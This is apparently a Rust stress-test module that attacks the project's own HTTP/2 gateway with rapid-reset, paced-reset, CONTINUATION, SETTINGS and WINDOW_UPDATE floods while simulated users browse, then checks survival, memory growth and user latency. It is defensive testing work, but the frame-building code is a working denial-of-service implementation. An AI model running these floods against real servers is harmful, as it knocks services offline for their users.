//! HTTP/2 abuse: a hand-written HTTP/2 client attacks the gateway, one attack after another,
//! while 64 normal users browse.
//!
//! - **rapid reset** (CVE-2023-44487): HEADERS of a request to a public route, then at once
//!   RST_STREAM(CANCEL), stream after stream, written back to back: each costs the client two
//!   frames and the server a request it may already have started.
//! - **paced rapid reset**: the same, 100 HEADERS at a time, their 100 RST_STREAMs 20 ms
//!   later, so that the server has taken the requests up (and started them) before they are
//!   reset (back to back, h2 sees the reset before the stream is accepted, and counts it).
//! - **CONTINUATION flood** (CVE-2024-27316 class): HEADERS without END_HEADERS, then
//!   CONTINUATION frames of header literals that never end the block: a server that buffers
//!   the block until it ends buffers for ever.
//! - **SETTINGS flood** (CVE-2019-9515): SETTINGS frames sent without reading the socket, so
//!   the ACKs the server owes pile up.
//! - **WINDOW_UPDATE flood**: a million connection WINDOW_UPDATEs of increment 1.
//!
//! Each attack lasts [`ATTACK`]: when the gateway cuts the attacker off, it connects again and
//! goes on, as a real one would (the WINDOW_UPDATE flood stops at its million frames). Each has
//! its own load of users (a short warm-up, the attack, a second after it), and a control run
//! with no attack comes first. A row per attack says what the gateway did to the attacker
//! (GOAWAY and its error code, the close, after how many frames and how long, or that it
//! stopped reading) and what it cost (the gateway's RSS, the users' p99 against the control's).
//! Pass, for each: the gateway still runs, every user request in the attack's window was
//! answered as it should be, `/healthz` answers 200, and the gateway's peak RSS during the
//! attack is at most [`RSS_GROWTH_LIMIT_MIB`] above the control run's peak (or above its own
//! reading before the attack, when that is higher). The control's peak, not a reading just
//! before the attack: each run's 64 users log in as it starts, and every login hashes its
//! password with argon2id (19 MiB each, several at once), so the users alone move RSS by
//! 80 MiB from one moment to the next — what the attack adds is what lies above that.

use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv4Addr};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use crate::harness::{Gateway, H2, H2_PREFACE, StoreSpec, frame, frame_bytes, tls_to};
use crate::load::{Load, LoadSpec, Outcome, Phase, Tally};
use crate::procfs;
use crate::report::Report;

const USERS: LoadSpec = LoadSpec {
    users: 64,
    think: Duration::from_millis(20),
};
const WARM: Duration = Duration::from_secs(2);
/// How long an attack lasts.
const ATTACK: Duration = Duration::from_secs(5);
/// The most connections one attack opens.
const MAX_CONNECTIONS: usize = 2_000;
const AFTER: Duration = Duration::from_secs(1);
/// A write that waits longer than this: the gateway has stopped reading the attacker.
const STALL: Duration = Duration::from_secs(1);
const RSS_GROWTH_LIMIT_MIB: u64 = 64;
const ATTACKER: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 201, 0, 1));

#[derive(Clone, Copy, PartialEq, Eq)]
enum Flood {
    /// The control run: the users alone.
    None,
    RapidReset,
    RapidResetPaced,
    Continuation,
    Settings,
    WindowUpdate,
}

/// Streams per round of the paced rapid reset (under the gateway's 256 concurrent streams).
const PACED_ROUND: u64 = 100;
/// The pause between a round's HEADERS and its resets in the paced rapid reset.
const PACED_PAUSE: Duration = Duration::from_millis(20);

impl Flood {
    const ALL: [Flood; 6] = [
        Flood::None,
        Flood::RapidReset,
        Flood::RapidResetPaced,
        Flood::Continuation,
        Flood::Settings,
        Flood::WindowUpdate,
    ];
    fn name(self) -> &'static str {
        match self {
            Flood::None => "control",
            Flood::RapidReset => "rapid-reset",
            Flood::RapidResetPaced => "paced-reset",
            Flood::Continuation => "continuation",
            Flood::Settings => "settings",
            Flood::WindowUpdate => "window-update",
        }
    }
    /// The most frames the attack sends, over all its connections.
    fn max_frames(self) -> u64 {
        match self {
            Flood::None => 0,
            Flood::WindowUpdate => 1_000_000,
            _ => u64::MAX,
        }
    }
    /// Whether the attacker reads the socket while it sends (the SETTINGS flood does not).
    fn reads(self) -> bool {
        self != Flood::Settings
    }
    /// Frames in one write.
    fn per_batch(self) -> u64 {
        match self {
            Flood::WindowUpdate => 1_000,
            Flood::RapidResetPaced => PACED_ROUND,
            _ => 100,
        }
    }
    /// The pause after the batch that starts at frame `n`.
    fn pause_after(self, n: u64) -> Option<Duration> {
        (self == Flood::RapidResetPaced && (n / PACED_ROUND).is_multiple_of(2))
            .then_some(PACED_PAUSE)
    }
    /// Frames `n..n + count` of the attack on one connection, as bytes.
    fn batch(self, n: u64, count: u64, out: &mut Vec<u8>) {
        for k in n..n + count {
            match self {
                Flood::None => {}
                Flood::RapidReset => {
                    // Two frames per stream: HEADERS on even k, RST_STREAM on odd k.
                    let stream = 1 + 2 * (k / 2) as u32;
                    if k % 2 == 0 {
                        rapid_reset_headers(stream, out);
                    } else {
                        reset(stream, out);
                    }
                }
                Flood::RapidResetPaced => {
                    // Rounds of PACED_ROUND HEADERS, then their PACED_ROUND RST_STREAMs.
                    let (round, j) = (k / (2 * PACED_ROUND), k % (2 * PACED_ROUND));
                    let stream = 1 + 2 * (round * PACED_ROUND + j % PACED_ROUND) as u32;
                    if j < PACED_ROUND {
                        rapid_reset_headers(stream, out);
                    } else {
                        reset(stream, out);
                    }
                }
                Flood::Continuation if k == 0 => {
                    let block = H2::request_block("GET", "/public/continuation", "localhost", &[]);
                    out.extend(frame_bytes(frame::HEADERS, frame::END_STREAM, 1, &block));
                }
                Flood::Continuation => {
                    // One header literal per frame, `x-NNNNNN: a…a`, never END_HEADERS.
                    let mut lit = vec![0x00, 8];
                    lit.extend_from_slice(format!("x-{:06}", k % 1_000_000).as_bytes());
                    lit.push(48);
                    lit.extend_from_slice(&[b'a'; 48]);
                    out.extend(frame_bytes(frame::CONTINUATION, 0, 1, &lit));
                }
                Flood::Settings => {
                    let mut p = frame::SETTINGS_INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
                    p.extend_from_slice(&65_535u32.to_be_bytes());
                    out.extend(frame_bytes(frame::SETTINGS, 0, 0, &p));
                }
                Flood::WindowUpdate => {
                    out.extend(frame_bytes(frame::WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()));
                }
            }
        }
    }
}

/// HEADERS (END_STREAM, END_HEADERS) of `GET /public/rapid-reset` on `stream`.
fn rapid_reset_headers(stream: u32, out: &mut Vec<u8>) {
    let block = H2::request_block("GET", "/public/rapid-reset", "localhost", &[]);
    let flags = frame::END_STREAM | frame::END_HEADERS;
    out.extend(frame_bytes(frame::HEADERS, flags, stream, &block));
}

/// RST_STREAM(CANCEL) on `stream`.
fn reset(stream: u32, out: &mut Vec<u8>) {
    out.extend(frame_bytes(
        frame::RST_STREAM,
        0,
        stream,
        &frame::CANCEL.to_be_bytes(),
    ));
}

/// What the attacker saw of the gateway.
#[derive(Default, Clone)]
struct Seen {
    /// `(when, frames sent by then, last stream id, error code, debug data)` of the first
    /// GOAWAY.
    goaway: Option<(Duration, u64, u32, u32, String)>,
    /// When the connection closed (EOF, reset, TLS error).
    closed: Option<Duration>,
    /// Frames the gateway sent, by type: HEADERS, RST_STREAM, SETTINGS ACK.
    headers: u64,
    resets: u64,
    settings_acks: u64,
}

/// How one attack went.
#[derive(Default, Clone)]
struct Attacked {
    frames: u64,
    /// How long the attacker sent.
    sent_for: Duration,
    /// A write waited longer than [`STALL`]: the gateway stopped reading.
    stalled: bool,
    /// The first write error, if a write failed.
    write_error: Option<String>,
    seen: Seen,
}

/// The attacker's side of one connection, shared by its writer and its reader.
struct Wire {
    t0: Instant,
    sent: AtomicU64,
    seen: Mutex<Seen>,
    /// Set once the connection closed: the writer stops.
    done: AtomicBool,
}

/// Read frames until the connection ends (or `until`), noting what the gateway sent.
async fn read_frames(
    mut r: ReadHalf<TlsStream<TcpStream>>,
    wire: Arc<Wire>,
    until: tokio::time::Instant,
) {
    let mut buf: Vec<u8> = Vec::new();
    let mut chunk = vec![0u8; 64 * 1024];
    loop {
        let n = match tokio::time::timeout_at(until, r.read(&mut chunk)).await {
            Err(_) => return,
            Ok(Ok(0) | Err(_)) => {
                wire.seen
                    .lock()
                    .unwrap()
                    .closed
                    .get_or_insert(wire.t0.elapsed());
                wire.done.store(true, Ordering::SeqCst);
                return;
            }
            Ok(Ok(n)) => n,
        };
        buf.extend_from_slice(&chunk[..n]);
        // Whole frames from the front, drained once per read (a flood of small frames).
        let mut at = 0;
        let mut s = wire.seen.lock().unwrap();
        while buf.len() >= at + 9 {
            let len = u32::from_be_bytes([0, buf[at], buf[at + 1], buf[at + 2]]) as usize;
            if buf.len() < at + 9 + len {
                break;
            }
            let (kind, flags) = (buf[at + 3], buf[at + 4]);
            let payload = &buf[at + 9..at + 9 + len];
            match kind {
                frame::HEADERS => s.headers += 1,
                frame::RST_STREAM => s.resets += 1,
                frame::SETTINGS if flags & frame::ACK != 0 => s.settings_acks += 1,
                frame::GOAWAY if len >= 8 && s.goaway.is_none() => {
                    let last = u32::from_be_bytes(payload[0..4].try_into().unwrap()) & 0x7fff_ffff;
                    let code = u32::from_be_bytes(payload[4..8].try_into().unwrap());
                    let debug = String::from_utf8_lossy(&payload[8..]).into_owned();
                    let frames = wire.sent.load(Ordering::Relaxed);
                    s.goaway = Some((wire.t0.elapsed(), frames, last, code, debug));
                }
                _ => {}
            }
            at += 9 + len;
        }
        drop(s);
        buf.drain(..at);
    }
}

/// Run `flood` on a fresh HTTP/2 connection until `deadline`, the connection's end, or
/// `budget` frames.
async fn connection(
    gw: &Gateway,
    flood: Flood,
    deadline: tokio::time::Instant,
    budget: u64,
) -> Attacked {
    let tls = tls_to(gw.https, gw.tls_config(&[b"h2"]), Some(ATTACKER))
        .await
        .expect("the attacker's TLS handshake");
    assert_eq!(tls.get_ref().1.alpn_protocol(), Some(&b"h2"[..]));
    let (r, mut w) = tokio::io::split(tls);
    let wire = Arc::new(Wire {
        t0: Instant::now(),
        sent: AtomicU64::new(0),
        seen: Mutex::new(Seen::default()),
        done: AtomicBool::new(false),
    });
    let (reader, unread) = if flood.reads() {
        let h = tokio::spawn(read_frames(r, wire.clone(), deadline + STALL));
        (Some(h), None)
    } else {
        (None, Some(r))
    };
    let mut out = Attacked::default();
    let per_batch = flood.per_batch();
    let mut bytes = H2_PREFACE.to_vec();
    bytes.extend(frame_bytes(frame::SETTINGS, 0, 0, &[]));
    // When the write in progress began: one still blocked at the deadline is a stall too.
    let in_flight = std::cell::Cell::new(None::<Instant>);
    let send = async {
        loop {
            let n = wire.sent.load(Ordering::Relaxed);
            if wire.done.load(Ordering::SeqCst) || n >= budget {
                break;
            }
            flood.batch(n, per_batch.min(budget - n), &mut bytes);
            in_flight.set(Some(Instant::now()));
            let written = w.write_all(&bytes).await;
            let began = in_flight.take().unwrap();
            if let Err(e) = written {
                out.write_error = Some(e.to_string());
                break;
            }
            out.stalled |= began.elapsed() > STALL;
            wire.sent
                .store(n + per_batch.min(budget - n), Ordering::Relaxed);
            bytes.clear();
            if let Some(pause) = flood.pause_after(n) {
                let _ = w.flush().await;
                tokio::time::sleep(pause).await;
            }
        }
        let _ = w.flush().await;
    };
    let _ = tokio::time::timeout_at(deadline, send).await;
    out.stalled |= in_flight.get().is_some_and(|t| t.elapsed() > STALL);
    out.frames = wire.sent.load(Ordering::Relaxed);
    out.sent_for = wire.t0.elapsed();
    match (reader, unread) {
        (Some(h), _) => {
            let _ = h.await;
        }
        // The SETTINGS flood read nothing while it sent: now read for a while what the
        // gateway had for it.
        (None, Some(r)) => {
            let until = tokio::time::Instant::now() + STALL;
            read_frames(r, wire.clone(), until).await;
        }
        (None, None) => {}
    }
    out.seen = wire.seen.lock().unwrap().clone();
    out
}

/// One attack: connection after connection until [`ATTACK`] is over (or the frame budget).
#[derive(Default)]
struct Campaign {
    conns: Vec<Attacked>,
    took: Duration,
}

impl Campaign {
    fn frames(&self) -> u64 {
        self.conns.iter().map(|c| c.frames).sum()
    }
}

async fn campaign(gw: &Gateway, flood: Flood) -> Campaign {
    let t0 = Instant::now();
    let deadline = tokio::time::Instant::now() + ATTACK;
    let mut c = Campaign::default();
    while tokio::time::Instant::now() < deadline
        && c.frames() < flood.max_frames()
        && c.conns.len() < MAX_CONNECTIONS
    {
        let budget = flood.max_frames() - c.frames();
        c.conns.push(connection(gw, flood, deadline, budget).await);
    }
    c.took = t0.elapsed();
    c
}

/// How a connection ended, in a few words (the GOAWAY's code and debug data).
fn ending(a: &Attacked) -> String {
    match (&a.seen.goaway, a.seen.closed) {
        (Some((_, _, _, code, debug)), _) => {
            let name = frame::error_name(*code);
            if debug.is_empty() {
                format!("GOAWAY {name}")
            } else {
                format!("GOAWAY {name} \"{debug}\"")
            }
        }
        (None, Some(_)) => "closed without GOAWAY".to_string(),
        (None, None) if a.stalled => "open, not read (writes blocked)".to_string(),
        (None, None) => "open".to_string(),
    }
}

/// What the gateway did to the first connection of an attack, in words.
fn verdict(a: &Attacked) -> String {
    let s = &a.seen;
    let mut out = match (&s.goaway, s.closed) {
        (Some((t, frames, last, _, _)), closed) => format!(
            "{} (last stream {last}) {:.3} s after the handshake, {frames} frames sent; {}",
            ending(a),
            t.as_secs_f64(),
            closed.map_or("connection still open".to_string(), |c| format!(
                "closed at {:.3} s",
                c.as_secs_f64()
            ))
        ),
        (None, Some(c)) => format!("closed without GOAWAY at {:.3} s", c.as_secs_f64()),
        (None, None) => format!(
            "not cut off: still open at {:.2} s, {} frames sent",
            a.sent_for.as_secs_f64(),
            a.frames
        ),
    };
    if a.stalled {
        out.push_str("; it stopped reading the attacker (a write blocked > 1 s)");
    }
    if let Some(e) = &a.write_error {
        out.push_str(&format!("; write failed: {e}"));
    }
    out
}

/// One attack's run: the attack, what the users got, what the gateway looked like.
struct Run {
    flood: Flood,
    campaign: Campaign,
    tally: Tally,
    rss_before: u64,
    rss_peak: u64,
    alive: bool,
    healthz: Option<u16>,
    /// The attacker's requests the upstream received (its journal).
    reached_app: usize,
}

/// How many requests of the attacker (paths under `/public/rapid-reset` and
/// `/public/continuation`) the upstream has received.
async fn attacker_requests_at_app(gw: &Gateway) -> usize {
    gw.journal()
        .await
        .iter()
        .filter(|e| {
            e.path.starts_with("/public/rapid-reset") || e.path.starts_with("/public/continuation")
        })
        .count()
}

/// The attack with the gateway's RSS sampled every 100 ms for [`ATTACK`] at least (the
/// control run only waits).
async fn attack_sampled(gw: &Gateway, pid: u32, flood: Flood) -> (Campaign, u64) {
    let peak = AtomicU64::new(procfs::rss_kib(pid).unwrap_or(0));
    let sampler = async {
        loop {
            peak.fetch_max(procfs::rss_kib(pid).unwrap_or(0), Ordering::Relaxed);
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    };
    let until = tokio::time::Instant::now() + ATTACK;
    let run = async {
        let c = if flood == Flood::None {
            Campaign::default()
        } else {
            campaign(gw, flood).await
        };
        // Every attack's window is at least as long as the control's.
        tokio::time::sleep_until(until).await;
        c
    };
    let c = tokio::select! {
        c = run => c,
        () = sampler => unreachable!(),
    };
    peak.fetch_max(procfs::rss_kib(pid).unwrap_or(0), Ordering::Relaxed);
    (c, peak.load(Ordering::Relaxed))
}

async fn healthz(gw: &Gateway) -> Option<u16> {
    gw.plain
        .get(gw.admin_url("/healthz"))
        .timeout(Duration::from_secs(5))
        .send()
        .await
        .ok()
        .map(|r| r.status().as_u16())
}

async fn run_one(gw: &Gateway, pid: u32, flood: Flood) -> Run {
    let at_app = attacker_requests_at_app(gw).await;
    let load = Load::start(&[gw], USERS);
    tokio::time::sleep(WARM).await;
    let rss_before = procfs::rss_kib(pid).unwrap_or(0);
    load.phase(Phase::Fault);
    let (campaign, rss_peak) = attack_sampled(gw, pid, flood).await;
    load.phase(Phase::After);
    tokio::time::sleep(AFTER).await;
    let alive = procfs::alive(pid);
    let healthz = healthz(gw).await;
    let tally = load.stop().await;
    let reached_app = attacker_requests_at_app(gw).await - at_app;
    Run {
        flood,
        campaign,
        tally,
        rss_before,
        rss_peak,
        alive,
        healthz,
        reached_app,
    }
}

pub async fn h2_abuse() -> Report {
    let gw = Gateway::start(crate::store::config(StoreSpec::Memory)).await;
    let pid = procfs::pid(&gw);
    let t0 = Instant::now();
    let mut runs = Vec::new();
    for flood in Flood::ALL {
        runs.push(run_one(&gw, pid, flood).await);
    }
    let window = t0.elapsed();
    let control_p99 = runs[0].tally.phase(Phase::Fault).quantile_ms(0.99);
    let mut tally = Tally::default();
    for r in &runs {
        tally.merge(r.tally.clone());
    }
    let mut report = Report::new(tally, &[], window).note(format!(
        "{} users; each attack for {} s from {ATTACKER}, reconnecting when cut off; the \
         gateway's HTTP/2 server as src/server/conn.rs builds it (hyper, h2 defaults \
         otherwise)",
        USERS.users,
        ATTACK.as_secs()
    ));
    for r in &runs {
        report = report.note(row(r, control_p99));
    }
    let control_peak = runs[0].rss_peak;
    for r in &runs {
        report = judge(report, r, control_peak);
    }
    if !report.passed() {
        eprintln!("gateway stderr:\n{}", gw.stderr_text());
    }
    report
}

/// How an attack's connections ended, e.g. `GOAWAY ENHANCE_YOUR_CALM "too_many_resets" ×812`.
fn endings(c: &Campaign) -> String {
    let mut by: BTreeMap<String, usize> = BTreeMap::new();
    for a in &c.conns {
        *by.entry(ending(a)).or_default() += 1;
    }
    by.iter()
        .map(|(k, n)| format!("{k} ×{n}"))
        .collect::<Vec<_>>()
        .join(", ")
}

fn row(r: &Run, control_p99: Option<f64>) -> String {
    let ms = |v: Option<f64>| v.map_or("-".to_string(), |v| format!("{v:.1} ms"));
    let t = r.tally.phase(Phase::Fault);
    let c = &r.campaign;
    let attack = match c.conns.first() {
        None => "no attack".to_string(),
        Some(first) => {
            let mut per: Vec<u64> = c.conns.iter().map(|a| a.frames).collect();
            per.sort_unstable();
            let sum = |f: fn(&Seen) -> u64| c.conns.iter().map(|a| f(&a.seen)).sum::<u64>();
            format!(
                "{} frames on {} connections in {:.1} s (p50 {} frames per connection): \
                 {}\n{:<15}first connection: {}\n{:<15}the gateway answered {} HEADERS, \
                 {} RST_STREAM, {} SETTINGS ACK; {} of its requests reached the app",
                c.frames(),
                c.conns.len(),
                c.took.as_secs_f64(),
                per[per.len() / 2],
                endings(c),
                "",
                verdict(first),
                "",
                sum(|s| s.headers),
                sum(|s| s.resets),
                sum(|s| s.settings_acks),
                r.reached_app,
            )
        }
    };
    let ratio = match (t.quantile_ms(0.99), control_p99) {
        (Some(p), Some(c)) if c > 0.0 && r.flood != Flood::None => format!(" (×{:.2})", p / c),
        _ => String::new(),
    };
    format!(
        "{:<13}  {attack}\n{:<15}gateway RSS {} → peak {}; users {} requests, {} ok, p99 {}{ratio}",
        r.flood.name(),
        "",
        procfs::mib(r.rss_before),
        procfs::mib(r.rss_peak),
        t.requests(),
        t.count(Outcome::Ok),
        ms(t.quantile_ms(0.99)),
    )
}

fn judge(report: Report, r: &Run, control_peak: u64) -> Report {
    let t = r.tally.phase(Phase::Fault);
    let base = r.rss_before.max(control_peak);
    let growth_mib = r.rss_peak.saturating_sub(base) / 1024;
    let users_ok = t.requests() > 0 && t.count(Outcome::Ok) == t.requests();
    report.check(
        format!(
            "{}: gateway running {}, /healthz {}, users {}/{} ok, peak RSS +{growth_mib} MiB \
             over the control's peak (at most {RSS_GROWTH_LIMIT_MIB})",
            r.flood.name(),
            if r.alive { "yes" } else { "NO" },
            r.healthz.map_or("no answer".to_string(), |s| s.to_string()),
            t.count(Outcome::Ok),
            t.requests(),
        ),
        r.alive && r.healthz == Some(200) && users_ok && growth_mib <= RSS_GROWTH_LIMIT_MIB,
    )
}
